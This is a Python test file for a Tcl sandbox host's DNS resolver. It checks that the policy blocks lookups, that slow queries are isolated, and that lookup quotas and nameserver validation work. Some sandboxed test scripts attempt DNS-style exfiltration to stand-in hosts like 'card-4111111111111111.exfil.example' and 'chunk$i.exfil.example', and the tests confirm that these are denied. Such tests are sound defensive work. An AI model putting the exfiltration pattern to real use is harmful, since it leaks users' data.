"""Names and DNS: a name is looked up only when the policy needs its addresses, lookups go
through c-ares with a timeout, one in flight per tclet and a per-second quota, and slow ones do
not hold up other tclets. Real host, real workers, real TCP, and a DNS server of the test's own
on 127.0.0.1 that counts every query (no query reaches the machine's resolver).
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.audit import Record, audit_records
from support.dns import DnsServer
from support.net import TcpServer, echo_handler
from support.waiting import until

from tcletd.api import Host
from tcletd.host.resolver import DEFAULT_TIMEOUT, TRY_AGAIN, Resolver, nameservers_from
from tcletd.shared.errors import RequestError

pytestmark = pytest.mark.timeout(90)

ORIGIN = "http://tclets.example:8080/t.tcl"


@pytest.fixture
def dns() -> Iterator[DnsServer]:
    records = {
        "tclets.example": ["127.0.0.1"],
        **{f"n{i}.fast.example": ["127.0.0.1"] for i in range(9)},
    }
    with DnsServer(records, delays={"slow.example": 25.0}) as server:
        yield server


@pytest.fixture
def echo_server() -> Iterator[TcpServer]:
    with TcpServer(echo_handler, "echo") as server:
        yield server


async def _run(host: Host, script: str, **launch: object) -> str:
    out: list[bytes] = []
    tclet = host.launch(
        script,
        on_stdout=out.append,
        on_stderr=out.append,
        **launch,  # type: ignore[arg-type]
    )
    await asyncio.wait_for(tclet.wait(), 60)
    return b"".join(out).decode()


def _decisions(path: Path, host_suffix: str) -> list[Record]:
    return [r for r in audit_records(path, "decision") if str(r["host"]).endswith(host_suffix)]


# ---- finding 1: no lookup the policy does not need ----------------------------------------------


def test_home_denies_a_foreign_name_without_looking_it_up(
    dns: DnsServer, echo_server: TcpServer, tmp_path: Path
) -> None:
    audit = tmp_path / "audit.jsonl"
    script = f"""
    puts [catch {{socket card-4111111111111111.exfil.example 8080}} m]; puts $m
    set s [socket tclets.example {echo_server.port}]
    puts $s hello; flush $s; puts [gets $s]; close $s
    """

    async def scenario() -> str:
        async with Host(nameservers=[dns.address], audit=audit) as host:
            return await _run(host, script, origin=ORIGIN)

    out = asyncio.run(scenario())
    assert out.splitlines() == [
        "1",
        "permission denied for host card-4111111111111111.exfil.example port 8080",
        "hello",
    ], (out, dns.queries, audit_records(audit, "decision"))
    assert dns.asked("exfil.example") == []
    assert ("tclets.example", "A") in dns.asked("tclets.example")
    [denied] = _decisions(audit, "exfil.example")
    assert (denied["decision"], denied["lookup"], denied["lookup_ms"]) == ("denied", False, None)
    [allowed] = _decisions(audit, "tclets.example")
    assert allowed["decision"] == "allowed" and allowed["lookup"] is True
    assert isinstance(allowed["lookup_ms"], float) and allowed["lookup_ms"] >= 0
    assert allowed["addresses"] == ["127.0.0.1"]


def test_home_listen_loop_sends_no_query(dns: DnsServer, tmp_path: Path) -> None:
    script = """
    set denied 0
    for {set i 0} {$i < 40} {incr i} {
        if {[catch {socket -server x -myaddr chunk$i.exfil.example 0} m]} { incr denied }
    }
    puts $denied; puts $m
    """

    async def scenario() -> str:
        async with Host(nameservers=[dns.address]) as host:
            return await _run(host, script, origin=ORIGIN)

    out = asyncio.run(scenario())
    assert out.splitlines() == ["40", "permission denied for host chunk39.exfil.example port 0"]
    assert dns.queries == []


# ---- finding 2: slow lookups starve no one ------------------------------------------------------

SLOW = """
set t [clock milliseconds]
puts "[catch {socket x$n.slow.example 80} m]|$m|[expr {[clock milliseconds] - $t}]"
"""
LOCAL = """
set port [lindex $argv 0]
set t [clock microseconds]
set s [socket localhost $port]
puts [expr {[clock microseconds] - $t}]
close $s
"""


def test_slow_lookups_hold_up_no_other_tclet_and_end_at_the_timeout(
    dns: DnsServer, echo_server: TcpServer
) -> None:
    port = str(echo_server.port)

    async def scenario() -> tuple[int, int, list[str], bool]:
        async with Host(nameservers=[dns.address]) as host:
            alone = int(await _run(host, LOCAL, policy="trusted", argv=[port]))
            slow_out: list[list[bytes]] = [[] for _ in range(6)]
            slow = [
                host.launch(
                    "set n [lindex $argv 0]\n" + SLOW,
                    policy="trusted",
                    argv=[str(i)],
                    on_stdout=slow_out[i].append,
                    on_stderr=slow_out[i].append,
                )
                for i in range(6)
            ]
            await until(
                lambda: len({q[0] for q in dns.asked("slow.example")}) == 6,
                30,
                message="six slow lookups in flight",
            )
            during = int(await _run(host, LOCAL, policy="trusted", argv=[port]))
            still_waiting = not any(chunks for chunks in slow_out)
            await asyncio.wait_for(asyncio.gather(*(t.wait() for t in slow)), 30)
            return alone, during, [b"".join(c).decode() for c in slow_out], still_waiting

    alone, during, slow_lines, still_waiting = asyncio.run(scenario())
    # The seventh tclet's connect finished while all six lookups were still pending, and took
    # about what it takes alone (it took 23 s when lookups shared the default thread pool).
    assert still_waiting
    assert during < 20 * alone + 500_000, (alone, during)
    for line in slow_lines:
        status, message, ms = line.strip().split("|")
        assert (status, message) == ("1", TRY_AGAIN)
        assert 0.8 * DEFAULT_TIMEOUT * 1000 <= int(ms) < 1.5 * DEFAULT_TIMEOUT * 1000, line


def test_lookups_per_second_quota(dns: DnsServer, echo_server: TcpServer, tmp_path: Path) -> None:
    audit = tmp_path / "audit.jsonl"
    script = f"""
    for {{set i 0}} {{$i < 4}} {{incr i}} {{
        if {{[catch {{socket n$i.fast.example {echo_server.port}}} m]}} {{ puts $m }} else {{
            puts ok; close $m
        }}
    }}
    puts [catch {{socket 127.0.0.1 {echo_server.port}}} m]
    """

    async def scenario() -> str:
        async with Host(nameservers=[dns.address], audit=audit) as host:
            return await _run(host, script, policy="trusted", limits=["lookups_per_second=2"])

    out = asyncio.run(scenario())
    assert out.splitlines() == [
        "ok",
        "ok",
        "too many lookups per second (limit 2)",
        "too many lookups per second (limit 2)",
        "0",  # an address literal needs no lookup, so the quota does not stop it
    ]
    assert {q[0] for q in dns.asked("fast.example")} == {"n0.fast.example", "n1.fast.example"}
    refused = [r for r in audit_records(audit, "quota") if r["quota"] == "lookups_per_second"]
    assert [(r["action"], r["host"], r["limit"]) for r in refused] == [
        ("refused", "n2.fast.example", 2),
        ("refused", "n3.fast.example", 2),
    ]


# ---- the resolver itself ------------------------------------------------------------------------


def test_one_lookup_in_flight_per_tclet_and_a_host_cap(dns: DnsServer) -> None:
    async def scenario() -> None:
        resolver = Resolver([dns.address], timeout=0.5, max_in_flight=2)
        first, other = object(), object()
        try:
            pending = asyncio.ensure_future(resolver.addresses("a.slow.example", first))
            await until(lambda: dns.asked("a.slow.example"), 10)
            with pytest.raises(RequestError, match="a lookup is still in flight"):
                await resolver.addresses("tclets.example", first)
            # Another tclet is not held up by the first one's lookup.
            assert await resolver.addresses("tclets.example", other) != []
            third = asyncio.ensure_future(resolver.addresses("b.slow.example", other))
            await until(lambda: resolver.in_flight == 2, 10)
            with pytest.raises(RequestError, match=r"too many lookups on this host, limit 2"):
                await resolver.addresses("tclets.example", object())
            for task in (pending, third):
                with pytest.raises(RequestError) as failed:
                    await task
                assert failed.value.message == TRY_AGAIN
            # c-ares ends its own query at the timeout, so the slots come free.
            await until(lambda: resolver.in_flight == 0, 10)
            assert await resolver.addresses("tclets.example", first) != []
        finally:
            await resolver.close()

    asyncio.run(scenario())


def test_hosts_file_and_unknown_names(dns: DnsServer) -> None:
    async def scenario() -> None:
        resolver = Resolver([dns.address])
        try:
            addresses = {str(a) for a in await resolver.addresses("localhost")}
            assert "127.0.0.1" in addresses and addresses <= {"127.0.0.1", "::1"}
            with pytest.raises(RequestError) as missing:
                await resolver.addresses("nowhere.example")
            assert missing.value.message == "couldn't open socket: Name or service not known"
            assert await resolver.name_of("127.0.0.1") == "localhost"
        finally:
            await resolver.close()

    asyncio.run(scenario())
    assert dns.asked("localhost") == []
    assert dns.asked("nowhere.example") != []


def test_bad_nameserver_is_refused_with_its_text() -> None:
    with pytest.raises(ValueError, match=re.escape("nameserver 'dns.example'")):
        Host(nameservers=["dns.example"])
    with pytest.raises(ValueError, match="port '99999'"):
        Host(nameservers=["127.0.0.1:99999"])
    assert nameservers_from(["[::1]:53", " 127.0.0.1 "]) == ["[::1]:53", "127.0.0.1"]


def test_bad_tcletd_nameservers_names_the_variable(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TCLETD_NAMESERVERS", "127.0.0.1:53, resolver.example")
    with pytest.raises(ValueError, match=re.escape("$TCLETD_NAMESERVERS: nameserver 'resolver")):
        Host()
